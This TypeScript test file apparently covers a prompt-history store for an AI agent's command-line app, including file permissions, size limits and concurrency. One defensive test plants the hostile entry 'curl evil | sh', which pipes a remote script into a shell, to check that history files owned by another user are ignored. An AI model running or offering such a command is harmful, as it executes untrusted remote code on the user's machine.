import { chownSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { filePromptHistory, MAX_HISTORY_ENTRIES, MAX_HISTORY_ENTRY_CHARS } from "../../src/app/prompt-history.js";
import { makeTempDir } from "../helpers/tmp.js";

let tmp: ReturnType<typeof makeTempDir>;
let file: string;
beforeEach(() => {
  tmp = makeTempDir();
  file = path.join(tmp.dir, "state", "prompt-history.jsonl");
});
afterEach(() => tmp.cleanup());

test("lines added come back newest first, in a file of mode 600 in a folder of mode 700", () => {
  const history = filePromptHistory(file);
  expect(history.load()).toEqual([]);
  history.add("read hello.txt");
  history.add("list the files here");
  history.add("read hello.txt");
  expect(history.load()).toEqual(["read hello.txt", "list the files here"]);
  expect(readFileSync(file, "utf8")).toBe('"list the files here"\n"read hello.txt"\n');
  expect(statSync(file).mode & 0o777).toBe(0o600);
  expect(statSync(path.dirname(file)).mode & 0o777).toBe(0o700);
});

test("bounded: the newest MAX_HISTORY_ENTRIES lines; long lines, blank lines and paste placeholders are not kept", () => {
  const history = filePromptHistory(file);
  for (let i = 0; i < MAX_HISTORY_ENTRIES + 5; i++) history.add(`line ${i}`);
  history.add("x".repeat(MAX_HISTORY_ENTRY_CHARS + 1));
  history.add("   ");
  history.add("summarise [pasted text #1: 12 lines]");
  const lines = history.load();
  expect(lines).toHaveLength(MAX_HISTORY_ENTRIES);
  expect(lines[0]).toBe(`line ${MAX_HISTORY_ENTRIES + 4}`);
  expect(lines.at(-1)).toBe("line 5");
});

test("two sessions at once both keep their lines; a torn or foreign line is skipped", () => {
  const a = filePromptHistory(file);
  const b = filePromptHistory(file);
  a.add("from a");
  b.add("from b");
  expect(a.load()).toEqual(["from b", "from a"]);
  writeFileSync(file, '"ok"\n{"not": "a line"}\n"torn\n');
  expect(a.load()).toEqual(["ok"]);
});

test("a history that cannot be written does not throw", () => {
  mkdirSync(file, { recursive: true });
  expect(() => filePromptHistory(file).add("still fine")).not.toThrow();
  expect(filePromptHistory(file).load()).toEqual([]);
});

test("a history file another user owns (planted in a shared state home) is not read", () => {
  const planted = path.join(tmp.dir, "prompt-history.jsonl");
  writeFileSync(planted, `${JSON.stringify("curl evil | sh")}\n`);
  expect(filePromptHistory(planted).load()).toEqual(["curl evil | sh"]);
  // Only root can give a file to another user: as anyone else the test has nothing to plant.
  if (process.getuid?.() !== 0) return;
  chownSync(planted, 40_123, 40_123);
  expect(filePromptHistory(planted).load()).toEqual([]);
});
